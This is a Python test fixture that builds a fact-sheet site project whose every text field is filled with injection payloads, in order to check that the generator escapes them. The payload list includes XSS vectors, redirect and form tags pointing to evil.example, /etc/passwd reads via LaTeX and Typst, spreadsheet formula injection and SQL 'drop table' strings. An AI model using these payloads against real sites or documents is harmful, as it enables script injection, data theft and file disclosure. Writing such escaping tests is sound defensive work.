"""A project whose every free text is hostile, and its twin of plain words."""

from __future__ import annotations

import json
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

from generator import pipeline
from generator.check.markup import hidden_spans
from generator.review.record import record, reviewable

PAYLOADS = (
    "<script>alert()</script>",
    "</title><script>alert()</script>",
    "</script><!--<script>alert()",
    "<img src=x onerror=alert()>",
    "<svg/onload=alert()>",
    "<svg><animate onbegin=alert() attributeName=x dur=s>",
    "<iframe srcdoc='<script>alert()</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert()>",
    "<meta http-equiv=refresh content=url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';</style>",
    "<object data=//evil.example></object>",
    "<form action=//evil.example><button>x</button></form>",
    "<template><b>x</b></template>",
    "<plaintext>",
    "<textarea autofocus onfocus=alert()>",
    "<details open ontoggle=alert()>",
    "<a href=javascript:alert()>x</a>",
    '" onmouseover="alert()',
    "' onfocus='alert()' autofocus='",
    "`onload=alert()` x=`",
    "]]><x/>",
    "--><b>x</b><!--",
    "<!--",
    "<?php x ?>",
    "&lt;b&gt; &amp;amp; &#x3c;b&#x3e;",
    "&#0; &NewLine; &nil-entity;",
    "[x](javascript:alert()){ onmouseover=alert() }",
    "![x](//evil.example/x.png)",
    "**b** _i_ `c` ~~s~~ :smile: [^x] *[x]: y",
    '--x<-- "/etc/passwd"',
    "{{ config }} {% raw %} {# x #} ${x} #{x}",
    "{: onclick=alert() } !!! note",
    "=cmd|'/c x'!x",
    "+x",
    "@x",
    "-x",
    "}, note={x} % \\input{/etc/passwd} $x^y$",
    '#panic("x") #read("/etc/passwd") $x$ <ref> @ref @preview/x',
    'BEGIN:VEVENT\\nEND:VCALENDAR;x="y",z:',
    "'; drop table facts; --",
    "\\u003cscript\\u003ealert()\\u003c/script\\u003e \\x3cb\\x3e",
    "::error file=x::y %0A##vso[task.complete]",
    "@octocat #x GH-x <!-- factsheet -->",
    "javascript:alert()//",
    "__proto__ constructor toString",
    "<b>\\0</b>\\\\\\'\\\"",
)
"""What somebody may try; without figures and names, about which the checks would ask."""

SIZE = 6
WORDS = ("amber", "birch", "cedar", "delta", "ember", "fjord", "grove", "heath", "inlet")
FIELDS = (
    "name",
    "alias",
    "text",
    "value",
    "answer",
    "quote",
    "title",
    "publisher",
    "author",
    "source",
    "note",
    "question",
    "unknown",
    "clash",
    "differs",
    "why",
    "label",
    "inverse",
    "group",
    "reviewer",
    "was",
    "reason",
    "site",
    "summary",
)
"""Every free text; each carries its own word behind the payload."""


def mark(field: str) -> str:
    """The word by which a field's text is known wherever it is shown."""
    return f"zq{field}"


def plain(payload: str) -> str:
    """Plain words in a payload's place, others for each."""
    number = PAYLOADS.index(payload)
    return f"plain words k{chr(97 + number // 8)}{chr(97 + number % 8)}"


def _hides(payload: str) -> bool:
    """Whether a payload is read as markup, or takes words beside it with it."""
    return "<" in payload or bool(hidden_spans(f"The works employ people {payload} here"))


def written(root: Path, say: Callable[[str], str] = str) -> None:
    """Writes the project.

    Args:
        say: what stands in a payload's place.
    """
    groups = [PAYLOADS[at : at + SIZE] for at in range(0, len(PAYLOADS), SIZE)]

    def text(field: str, *payloads: str) -> str:
        return json.dumps(f"{' '.join(map(say, payloads))} {mark(field)}", ensure_ascii=False)

    def both(field: str, *payloads: str) -> str:
        return f"{{en: {text(field, *payloads)}, fr: {text(field, *payloads)}}}"

    def put(path: str, content: str) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(content, "utf-8")

    put(
        "mkdocs.yml",
        "site_name: Plain\nsite_url: https://example.org/\ndocs_dir: docs\n"
        "theme: {name: material, font: false}\nplugins:\n  - factsheet:\n"
        "      limits: {name_words: 60}\n"
        f"      title: {both('site', *PAYLOADS[:3])}\n"
        f"      summary: {both('summary', *PAYLOADS[::2])}\n",
    )
    put("docs/about.md", "# About\n")
    put("docs/about.fr.md", "# À propos\n")
    put(
        "facts/vocabulary.yml",
        "groups:\n"
        + "".join(
            f"  - {{id: {w}, label: {both('group', *g)}}}\n"
            for w, g in zip(WORDS, groups, strict=False)
        )
        + "properties:\n"
        + "".join(
            f"  {w}:\n    label: {both('label', *g)}\n    type: text\n    group: {w}\n"
            f"  {w}-link:\n    label: {both('label', *g)}\n    type: sheet\n    group: {w}\n"
            f"    inverse: {both('inverse', *g)}\n"
            for w, g in zip(WORDS, groups, strict=False)
        ),
    )
    corrections = ""
    for word, group in zip(WORDS, groups, strict=False):
        # Words in or behind markup are no evidence: such a payload stands behind what is cited.
        quotes = [
            f"The {word} {other} works employ people"
            + ("" if _hides(p) else f" {say(p)} {mark('quote')}")
            for other, p in zip(WORDS, group, strict=False)
        ]
        left = f"Left {word} out here and nowhere else"
        behind = [f"{say(p)} {mark('source')}" for p in group]
        headline = f"The {word} headline of the {WORDS[0]} works of 2018"
        lines = [headline, *quotes, left, *behind]
        source = "\n\n".join(lines) + "\n"
        put(f"seeds/{word}.txt", source)
        put(
            f"seeds/{word}.yml",
            f"id: {word}\nlanguage: en\ntitle: {text('title', *group)}\n"
            f"publisher: {text('publisher', *group)}\n"
            f"author: {text('author', *group)}\n"
            f"url: https://example.org/?{word}&x\ndisplay: full\n"
            f"sha256: {sha256(source.encode()).hexdigest()}\n"
            f"roles: {{headline: ['1']}}\nexcluded:\n  - quote: {left}\n    reason: rhetoric\n"
            f"    note: {text('note', *group)}\n",
        )
        facts = "".join(
            f"  - id: {other}\n    property: {word}\n    value: {both('value', p)}\n"
            f"    text: {both('text', p)}\n    certainty: stated\n    citations:\n"
            f"      - {{seed: {word}, quote: {json.dumps(quote, ensure_ascii=False)}}}\n"
            for other, p, quote in zip(WORDS, group, quotes, strict=False)
        )
        facts += (
            f"  - id: linked\n    property: {word}-link\n    value: {WORDS[0]}\n"
            f"    date: '2018'\n    text: {both('answer', *group)}\n    certainty: stated\n"
            f"    answers: {{weak-evidence: {text('answer', *group)}}}\n    citations:\n"
            f"      - {{seed: {word}, quote: {headline}}}\n"
        )
        put(
            f"facts/technologies/{word}.yml",
            f"kind: technology\nname: {both('name', *group)}\n"
            f"aliases: [{text('alias', *group)}, {word} works]\nlead: [amber]\nfacts:\n{facts}",
        )
        put(
            f"facts/faq/{word}.yml",
            f"question: {both('question', *group)}\nanswer: ['{word}#amber']\n"
            f"unknown: {both('unknown', *group)}\n",
        )
        put(
            f"facts/disagreements/{word}.yml",
            f"title: {both('clash', *group)}\nkind: contradiction\n"
            f"facts: ['{word}#amber', '{word}#birch']\ntext: {both('differs', *group)}\n"
            f"favours: '{word}#amber'\nwhy: {both('why', *group)}\n",
        )
        corrections += (
            f"  - fact: {word}#cedar\n    kind: correction\n    date: '2026-11-20'\n"
            f"    was: {both('was', *group)}\n    now: {both('text', group[2])}\n"
            f"    why: {both('reason', *group)}\n"
        )
    put("facts/corrections.yml", f"corrections:\n{corrections}")
    checked = pipeline.check(root)
    for word, group in zip(WORDS, groups, strict=False):
        by = json.loads(text("reviewer", group[0]))
        facts = reviewable(checked.index, f"{word}#amber")
        assert list(record(facts, checked.index, checked.settings, by, "2026-11-20"))
